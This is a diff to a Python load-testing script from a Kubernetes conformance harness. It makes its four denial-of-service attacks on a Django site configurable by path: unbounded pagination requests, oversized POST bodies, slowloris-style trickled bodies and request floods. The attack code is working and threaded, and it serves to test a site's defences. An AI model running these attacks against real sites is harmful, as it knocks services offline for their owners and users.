@@ -1,13 +1,18 @@
-"""Attacks on the garage site (défis 17-18), from one client. Standard library only.
+"""Attacks on a Django site (défis 17-18), from one client. Standard library only.
 
 Four attacks, each a few threads looping until the end:
 - lists:  unbounded lists, `GET /api/cars?page_size=1000000` and `/voitures/?page_size=...`: on a
           site without pagination caps, every row is loaded, serialised and held in memory at once;
-- bodies: oversized request bodies (`POST /api/cars`, --body-mb MB of JSON) sent at full speed: a
+- bodies: oversized request bodies (`POST /api/garages`, --body-mb MB of JSON) sent at full speed: a
           site without a body limit reads them whole into memory;
 - slow:   slow clients: a POST whose declared body arrives one byte every --slow-interval seconds,
           holding a server thread (or the only one) for as long as the server lets it;
 - flood:  as many requests as one client can send (`GET /api/stats`: one query each, no cache).
+
+The paths are our garage site's by default; another site's are given with --list-path (its API list),
+--page-path (a public page), --write-path (where the API takes writes) and --flood-path (an inexpensive
+read), or the variables of the site contract (KUBEDEFIS_API_LIST, KUBEDEFIS_PUBLIC_PAGE,
+KUBEDEFIS_API_WRITE "POST /path", KUBEDEFIS_API_PROBE): kubedefis/harness/load.py passes the target's.
 
 Run from a pod of the cluster by the conformance tests (défis 17 and 18: kubedefis/harness/load.py,
 `in_cluster`), so the attacker's address differs from the legitimate users' one; or by hand:
@@ -39,6 +44,15 @@ from typing import Any
 
 CHUNK = b"A" * (1024 * 1024)
 REQUEST_TIMEOUT = 30.0
+# The site contract's paths (kubedefis.harness.target.SITE), ours unless the environment says.
+LIST_PATH = os.environ.get("KUBEDEFIS_API_LIST") or "/api/cars"
+PAGE_PATH = os.environ.get("KUBEDEFIS_PUBLIC_PAGE") or "/voitures/"
+WRITE_PATH = (os.environ.get("KUBEDEFIS_API_WRITE") or "POST /api/garages").split()[-1]
+FLOOD_PATH = os.environ.get("KUBEDEFIS_API_PROBE") or "/api/stats"
+
+
+def with_query(path: str, query: str) -> str:
+    return f"{path}{'&' if '?' in path else '?'}{query}"
 
 
 class Target:
@@ -81,18 +95,17 @@ def get(target: Target, path: str, connection: http.client.HTTPConnection | None
             conn.close()
 
 
-def unbounded_list(target: Target, turn: int) -> str:
-    path = "/api/cars?page_size=1000000" if turn % 2 == 0 else "/voitures/?page_size=1000000"
-    return get(target, path)[0]
+def unbounded_list(target: Target, turn: int, lists: str = LIST_PATH, page: str = PAGE_PATH) -> str:
+    return get(target, with_query(lists if turn % 2 == 0 else page, "page_size=1000000"))[0]
 
 
-def oversized_body(target: Target, megabytes: int) -> str:
+def oversized_body(target: Target, megabytes: int, path: str = WRITE_PATH) -> str:
     """POST a JSON body of `megabytes` MB at full speed; the answer (413 when refused early)."""
     body_size = megabytes * len(CHUNK)
     head, tail = b'{"make": "', b'"}'
     conn = target.connection()
     try:
-        conn.putrequest("POST", "/api/cars", skip_host=True)
+        conn.putrequest("POST", path, skip_host=True)
         for name, value in target.headers(**{"Content-Type": "application/json"}).items():
             conn.putheader(name, value)
         conn.putheader("Content-Length", str(len(head) + body_size + len(tail)))
@@ -111,11 +124,11 @@ def oversized_body(target: Target, megabytes: int) -> str:
         conn.close()
 
 
-def slow_body(target: Target, interval: float, until: float) -> str:
+def slow_body(target: Target, interval: float, until: float, path: str = WRITE_PATH) -> str:
     """A POST whose body trickles in one byte per `interval` s; how the server ended it."""
     sock = socket.create_connection((target.host, target.port), timeout=REQUEST_TIMEOUT)
     try:
-        head = ["POST /api/cars HTTP/1.1"]
+        head = [f"POST {path} HTTP/1.1"]
         head += [f"{k}: {v}" for k, v in target.headers(**{"Content-Type": "application/json"}).items()]
         head += ["Content-Length: 100000", "", ""]
         sock.sendall("\r\n".join(head).encode())
@@ -134,12 +147,12 @@ def slow_body(target: Target, interval: float, until: float) -> str:
         sock.close()
 
 
-def flood(target: Target, state: dict[str, Any]) -> str:
+def flood(target: Target, state: dict[str, Any], path: str = FLOOD_PATH) -> str:
     """Requests back to back on one kept-alive connection (a new one after an error)."""
     conn = state.get("conn") or target.connection(timeout=10)
     state["conn"] = conn
     try:
-        return get(target, "/api/stats", conn)[0]
+        return get(target, path, conn)[0]
     except Exception:
         conn.close()
         state["conn"] = None
@@ -188,16 +201,24 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--slow", type=int, default=24, help="slow clients at once")
     parser.add_argument("--slow-interval", type=float, default=2.0, help="seconds between two bytes")
     parser.add_argument("--flood", type=int, default=8, help="threads flooding")
+    parser.add_argument("--list-path", default=LIST_PATH, help="the API list asked unbounded")
+    parser.add_argument("--page-path", default=PAGE_PATH, help="the public page asked unbounded")
+    parser.add_argument("--write-path", default=WRITE_PATH, help="where the oversized and slow bodies go (POST)")
+    parser.add_argument("--flood-path", default=FLOOD_PATH, help="the read flooded")
     args = parser.parse_args(argv)
 
     target = Target(args.target, args.host_header)
     start = time.monotonic()
     until = start + args.duration
     attacks = [
-        Attack("lists", args.lists, lambda turn, state: unbounded_list(target, turn), until),
-        Attack("bodies", args.bodies, lambda turn, state: oversized_body(target, args.body_mb), until),
-        Attack("slow", args.slow, lambda turn, state: slow_body(target, args.slow_interval, until), until),
-        Attack("flood", args.flood, lambda turn, state: flood(target, state), until),
+        Attack(
+            "lists", args.lists, lambda turn, state: unbounded_list(target, turn, args.list_path, args.page_path), until
+        ),
+        Attack("bodies", args.bodies, lambda turn, state: oversized_body(target, args.body_mb, args.write_path), until),
+        Attack(
+            "slow", args.slow, lambda turn, state: slow_body(target, args.slow_interval, until, args.write_path), until
+        ),
+        Attack("flood", args.flood, lambda turn, state: flood(target, state, args.flood_path), until),
     ]
     for attack in attacks:
         if attack.threads:
